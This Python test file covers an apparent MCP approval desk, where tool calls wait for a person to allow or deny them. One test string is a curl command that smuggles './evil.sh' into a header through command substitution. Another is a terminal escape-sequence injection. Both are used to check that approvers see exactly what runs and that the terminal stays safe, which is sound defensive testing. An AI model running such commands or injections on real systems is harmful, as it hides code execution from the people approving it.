"""Official clients call tools that need approval; keys on the desk decide the result."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import aiohttp
import mcp_types as types
import pytest

from mcpdesk.inbox.question import Answer, Approval, QuestionKind, QuestionState
from mcpdesk.protocol.revisions import V2026_07_28
from mcpdesk.protocol.stateless import request_meta
from mcpdesk.recorder.index.exchange import Exchange, Status
from mcpdesk.server.asks import person_questions
from mcpdesk.transports.http.sessions import http_sessions
from mcpdesk.tui.forms.question_dialog import QuestionScreen
from mcpdesk.tui.screens.main_screen import PANES
from mcpdesk.tui.workbench.catalogue_list import CatalogueList
from tests.support.action_menu import choose_action
from tests.support.desk import RunningDesk, running_desk
from tests.support.driven import OnScreen
from tests.support.frame import running_frame
from tests.support.official import ALL, Answers, Heard, answering, session, stdio, text_of
from tests.support.patience import until, within
from tests.support.person import Person, place
from tests.support.workshop import workshop

APPROVALS = {"say": "ask", "lines": "ask", "who": "deny"}
both_ways = pytest.mark.parametrize("way", ["http", "pump"])
WAITING = {
    "say": {"text": "hello"},
    "AskUserQuestion": {"questions_json": json.dumps([{"question": "Tea?", "options": ["yes", "no"]}])},
}
"""Calls that wait for a person: for an approval, and for an answer."""
both_kinds = pytest.mark.parametrize("tool", list(WAITING))
both_eras = pytest.mark.parametrize("revision", ["2025-11-25", "2026-07-28"])


class Screen(OnScreen):
    """The screen of a desk, driven by keys."""

    async def answers(self, *keys: str) -> None:
        """Wait for the dialog, press keys, and wait for its end."""
        await self.until(lambda: isinstance(self.app.screen, QuestionScreen) and self.app.screen.takes_keys)
        await self.pilot.pause()
        await self.pilot.press(*keys)
        await self.until(lambda: self.app.screen is self.app.main and self.app.main.takes_keys)


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    made = workshop(tmp_path / "workshop")
    manifest = json.loads((made / "mcp.json").read_text())
    (made / "mcp.json").write_text(json.dumps(manifest | {"approvals": APPROVALS}))
    return made


@pytest.fixture
async def desk(folder: Path, monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[RunningDesk]:
    """A core with a person at the desk, a short tool timeout, and frequent keep-alive messages."""
    monkeypatch.setattr(person_questions, "KEEP_ALIVE_S", 0.02)
    async with running_desk(folder, http=True, accepts_pumps=True, tool_timeout_ms=100) as link:
        yield link


@asynccontextmanager
async def screen(desk: RunningDesk) -> AsyncIterator[Screen]:
    async with running_frame(desk, panes=PANES) as (app, pilot):  # type: ignore[arg-type]
        shown = Screen(app, pilot)
        await shown.until(lambda: "say" in shown.shown())
        yield shown


def call(client: Any, text: str = "hello", heard: Heard | None = None) -> asyncio.Task[Any]:
    callback = heard.on_progress if heard is not None else None
    return asyncio.create_task(client.call_tool("say", {"text": text}, progress_callback=callback))


@pytest.mark.process
@both_ways
@pytest.mark.parametrize("revision", ALL)
async def test_a_call_waits_for_its_approval_however_long_that_takes(
    desk: RunningDesk, folder: Path, way: str, revision: str
) -> None:
    person, heard = Person(desk), Heard()
    async with session(place(desk, folder, way), revision) as client:
        calling = call(client, heard=heard)
        question = await person.sees()
        assert (question.kind, question.tool, question.peer) == (QuestionKind.APPROVAL, "say", "official 2")
        assert question.pages[0].detail == "text: hello"
        await heard.sees(lambda: len(heard.progress) >= 10)
        desk.answer(question.id, [Answer((Approval.ONCE,))])
        result = await calling
    assert not result.is_error and text_of(result) == "hello"
    if revision != "2024-11-05":
        assert heard.progress[0][2] == "waiting for approval on the desk"


HIDING = 'curl -H "Authorization: Bearer $(./evil.sh)" http://x'


async def test_who_approves_sees_every_character_of_what_runs(desk: RunningDesk, folder: Path) -> None:
    person = Person(desk)
    async with session(place(desk, folder, "http"), "2025-11-25") as client:
        calling = call(client, HIDING)
        question = await person.sees()
        assert question.pages[0].detail == f"text: {HIDING}"
        desk.answer(question.id, [Answer((Approval.ONCE,))])
        assert text_of(await calling) == HIDING


@pytest.mark.process
@both_ways
@both_eras
async def test_what_is_denied_comes_with_its_reason(
    desk: RunningDesk, folder: Path, way: str, revision: str
) -> None:
    person = Person(desk)
    async with session(place(desk, folder, way), revision) as client:
        calling = call(client)
        desk.decline((await person.sees()).id, "not on Fridays")
        result = await calling
        assert result.is_error
        assert text_of(result) == "The person at the desk denied this call of say: not on Fridays."
        never = await client.call_tool("who", {})
        assert never.is_error
        assert text_of(never) == "who must not be called: its policy is deny (mcp.json)."


@pytest.mark.process
@both_ways
@both_eras
@both_kinds
async def test_a_cancelled_call_withdraws_its_question(
    desk: RunningDesk, folder: Path, way: str, revision: str, tool: str
) -> None:
    person = Person(desk)
    async with session(place(desk, folder, way), revision) as client:
        calling = asyncio.create_task(client.call_tool(tool, WAITING[tool]))
        assert (await person.sees()).tool == tool
        calling.cancel()
        assert (await person.sees(QuestionState.WITHDRAWN)).reason
        assert (await client.call_tool("weigh", {"weight": 1})).is_error is not True


@pytest.mark.slow
@both_ways
@both_eras
@both_kinds
async def test_the_question_of_a_client_that_vanished_is_withdrawn(
    desk: RunningDesk, folder: Path, way: str, revision: str, tool: str
) -> None:
    person = Person(desk)
    async with session(place(desk, folder, way), revision) as client:
        calling = asyncio.create_task(client.call_tool(tool, WAITING[tool]))
        assert (await person.sees()).tool == tool
    await person.sees(QuestionState.WITHDRAWN)
    await asyncio.gather(calling, return_exceptions=True)


@pytest.mark.parametrize("revision", ["2025-06-18", "2026-07-28"])
@both_kinds
async def test_a_client_without_a_session_that_hangs_up_withdraws_its_question(
    desk: RunningDesk, revision: str, tool: str
) -> None:
    person = Person(desk)
    params: dict[str, Any] = {"name": tool, "arguments": WAITING[tool]}
    headers = {"Mcp-Protocol-Version": revision}
    if revision == V2026_07_28.name:
        params["_meta"] = request_meta(V2026_07_28, {"name": "curl", "version": "8"})
        headers |= {"Mcp-Method": "tools/call", "Mcp-Name": tool}
    request = {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": params}
    async with aiohttp.ClientSession() as http:
        sending = asyncio.create_task(http.post(place(desk, Path(), "http"), json=request, headers=headers))  # type: ignore[arg-type]
        assert (await person.sees()).tool == tool
        sending.cancel()
        assert "disconnected" in (await person.sees(QuestionState.WITHDRAWN)).reason


@pytest.mark.sampled(2)
@pytest.mark.parametrize(
    ("revision", "absent_s", "sweep_s"),
    [
        pytest.param("2025-06-18", 600.0, 600.0, id="at once, because no event id was sent"),
        pytest.param("2025-11-25", 0.05, 600.0, id="after a pause, because the stream can be resumed"),
        pytest.param("2025-11-25", 0.05, 0.02, id="with sweeps in the meantime"),
    ],
)
@both_kinds
async def test_a_client_with_a_session_that_was_killed_withdraws_its_question(
    desk: RunningDesk,
    monkeypatch: pytest.MonkeyPatch,
    tool: str,
    revision: str,
    absent_s: float,
    sweep_s: float,
) -> None:
    monkeypatch.setattr(http_sessions, "ABSENT_S", absent_s)
    monkeypatch.setattr(http_sessions, "SWEEP_S", sweep_s)
    person = Person(desk)
    url = desk.view().servers[0].url
    about = {"protocolVersion": revision, "capabilities": {}, "clientInfo": {"name": "c", "version": "1"}}
    opening = {"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": about}
    params = {"name": tool, "arguments": WAITING[tool]}
    request = {"jsonrpc": "2.0", "id": 2, "method": "tools/call", "params": params}
    both = {"Accept": "application/json, text/event-stream"}

    def streams() -> int:
        (client,) = [each for each in desk.view().clients if each.name == "c 1"]
        detail = desk.client(client.connection)
        assert detail is not None and detail.session is not None
        return detail.session.streams

    async with aiohttp.ClientSession(headers=both) as http:
        async with http.post(url, json=opening) as answered:
            headers = {"Mcp-Session-Id": answered.headers["Mcp-Session-Id"]}
        standing = await http.get(url, headers=headers)

        async def send() -> None:
            async with http.post(url, json=request, headers=headers) as answering:
                await answering.read()

        sending = asyncio.create_task(send())
        assert (await person.sees()).tool == tool
        if revision == "2025-11-25":
            await until(lambda: streams() == 2)  # it has begun with an event id
        sending.cancel()
        await asyncio.wait({sending})
        if revision == "2025-11-25":
            await until(lambda: streams() == 1)
            assert [each.state for each in desk.questions()] == [QuestionState.WAITING], (
                "a connection is left"
            )
        standing.close()
        assert (await person.sees(QuestionState.WITHDRAWN)).reason == "its client left"

    def called() -> Exchange:
        desk.traffic.catch_up()
        return next(each for each in desk.traffic.exchanges if each.method == "tools/call")

    await until(lambda: called().status is Status.ERROR)


@pytest.mark.process
@both_eras
async def test_without_a_desk_the_refusal_says_what_to_do_even_if_the_client_could_be_asked(
    folder: Path, revision: str
) -> None:
    answers = Answers()
    async with answering(stdio(folder, "--alone"), revision, answers) as client:
        result = await client.call_tool("say", {"text": "hello"})
        assert result.is_error and answers.asked == []
        assert "needs the approval of a person (policy ask, mcp.json), and no desk is open" in text_of(result)
        assert f"`mcpdesk {folder}`" in text_of(result)
        assert not (await client.call_tool("weigh", {"weight": 1})).is_error


@pytest.mark.slow
@both_eras
async def test_keys_on_the_screen_allow_and_deny(desk: RunningDesk, folder: Path, revision: str) -> None:
    async with screen(desk) as shown, session(place(desk, folder, "http"), revision) as client:
        calling = call(client, "first")
        await shown.answers("1", "enter")
        assert text_of(await calling) == "first"
        calling = call(client, "second")
        await shown.answers("x", *"no", "enter")
        assert text_of(await calling) == "The person at the desk denied this call of say: no."
        calling = call(client, "third")
        await shown.answers("3", "enter", "enter")
        assert text_of(await calling) == "The person at the desk denied this call of say."
        calling = call(client, "fourth")
        await shown.answers("2", "enter")
        assert text_of(await calling) == "fourth"
        assert text_of(await call(client, "fifth")) == "fifth"


@pytest.mark.process
async def test_two_clients_ask_at_once_and_each_gets_its_own_answer(desk: RunningDesk, folder: Path) -> None:
    person = Person(desk)
    async with (
        session(place(desk, folder, "http"), "2025-11-25") as first,
        session(place(desk, folder, "pump"), "2026-07-28") as second,
    ):
        calls = [call(first, "a")]
        one = await person.sees()
        calls.append(call(second, "b"))
        two = await person.sees()
        desk.decline(two.id, "b not")
        desk.answer(one.id, [Answer((Approval.ONCE,))])
        assert [text_of(each) for each in await asyncio.gather(*calls)] == [
            "a", "The person at the desk denied this call of say: b not.",
        ]  # fmt: skip


@pytest.mark.slow
async def test_keys_change_a_policy_and_end_an_approval_and_a_restart_forgets_neither(folder: Path) -> None:
    async with (
        running_desk(folder, http=True) as desk,
        screen(desk) as shown,
        session(place(desk, folder, "http"), "2025-11-25") as client,
    ):
        for text in ("first", "second"):
            calling = call(client, text)
            if text == "first":
                await shown.answers("2", "enter")
            assert text_of(await calling) == text
        weigh = {item.name: item for item in desk.catalogue("workshop").items}["weigh"]
        shown.app.main.query_one(CatalogueList).select(weigh.kind, weigh.name)
        await shown.pilot.press("space", *"policy", "enter")
        await shown.until(lambda: "deny" in shown.shown())
        await shown.pilot.press("3")
        await shown.until(lambda: "deny (chosen at the desk)" in shown.shown())
        refused = await client.call_tool("weigh", {"weight": 1})
        assert text_of(refused) == "weigh must not be called: its policy is deny (chosen at the desk)."
    async with (
        running_desk(folder, http=True) as desk,
        screen(desk) as shown,
        session(place(desk, folder, "http"), "2026-07-28") as client,
    ):
        assert (await client.call_tool("weigh", {"weight": 1})).is_error
        assert text_of(await call(client, "third")) == "third"
        await choose_action(shown.pilot, "standing approvals")
        await shown.until(lambda: "say for official 2" in shown.shown())
        await shown.pilot.press("enter")
        await until(lambda: not desk.grants())
        calling = call(client, "fourth")
        await shown.answers("3", "enter", "enter")
        assert "denied" in text_of(await calling)


@pytest.mark.slow
async def test_what_a_client_sends_never_reaches_the_terminal(desk: RunningDesk, folder: Path) -> None:
    async with screen(desk) as shown, session(place(desk, folder, "http"), "2025-11-25") as client:
        calling = call(client, "\x1b]0;owned\x07\x1b[2J\u202e" + "x" * 50_000)
        await shown.until(lambda: isinstance(shown.app.screen, QuestionScreen))
        await shown.pilot.pause()
        text = shown.shown()
        assert "␛]0;owned␇␛[2J‹202e›" in text and "deny" in text
        assert not {"\x1b", "\x07", "\u202e"} & set(text)
        await shown.answers("3", "enter", "enter")
        assert (await calling).is_error


class Slow(Answers):
    """The user of a client who answers when the test allows it."""

    def __init__(self) -> None:
        super().__init__()
        self.was_asked, self.may_answer = asyncio.Event(), asyncio.Event()

    async def elicit(self, context: Any, params: types.ElicitRequestParams) -> types.ElicitResult:
        self.was_asked.set()
        await self.may_answer.wait()
        return types.ElicitResult(action="accept", content={"answer_1": "tea"})


@pytest.mark.sampled(1)
@both_eras
@pytest.mark.parametrize("first", ["desk", "client"])
async def test_asked_in_both_places_the_first_answer_wins(folder: Path, revision: str, first: str) -> None:
    answers = Slow()
    questions = json.dumps([{"question": "Tea?", "options": ["tea", "coffee"]}])
    async with running_desk(folder, http=True, ask_order="both") as desk:
        person = Person(desk)
        async with answering(place(desk, folder, "http"), revision, answers) as client:
            asking = asyncio.create_task(client.call_tool("AskUserQuestion", {"questions_json": questions}))
            question = await person.sees()
            async with within():
                await answers.was_asked.wait()
            if first == "desk":
                desk.answer(question.id, [Answer(("coffee",))])
                await person.sees(QuestionState.ANSWERED)
            answers.may_answer.set()
            result = await asking
            assert result.structured_content is not None
            chosen = result.structured_content["answers"][0]["selected"]
            assert chosen == (["coffee"] if first == "desk" else ["tea"])
            if first == "client":
                assert (await person.sees(QuestionState.WITHDRAWN)).reason == "answered by the client"
